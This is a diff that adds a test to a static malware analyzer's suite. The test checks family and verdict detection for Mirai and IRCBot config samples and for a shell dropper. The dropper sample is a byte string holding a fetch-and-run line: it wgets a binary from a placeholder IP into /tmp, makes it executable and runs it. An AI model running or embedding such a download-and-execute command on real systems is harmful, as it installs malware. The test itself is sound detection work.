@@ -133,3 +133,19 @@ def test_a_200_mb_file_is_analyzed_within_limits(analyzer: StaticAnalyzer) -> No
     assert report.hashes.size == 200 << 20
     assert report.identity.kind == "data"
     assert report.timings_ms["total"] < 120_000
+
+
+def test_configs_reach_the_report_family_and_verdict(analyzer: StaticAnalyzer) -> None:
+    from tests.analyze.test_configs import irc_blob, mirai_blob
+
+    for blob, family in ((mirai_blob(), "Mirai"), (irc_blob(), "IRCBot")):
+        report = analyzer.analyze(blob, name="bot").report
+        assert [c.family for c in report.configs] == [family]
+        assert report.family is not None and report.family.name == family
+        assert report.family.source == "config"
+        assert report.verdict.value == "malicious"
+        assert any(r.kind == "config" for r in report.verdict.reasons)
+    dropper = b"#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/x86; chmod 777 x86; ./x86\n"
+    report = analyzer.analyze(dropper, name="drop.sh").report
+    assert [c.family for c in report.configs] == ["Downloader"]
+    assert report.verdict.value == "suspicious"  # a fetch-and-run line alone does not convict
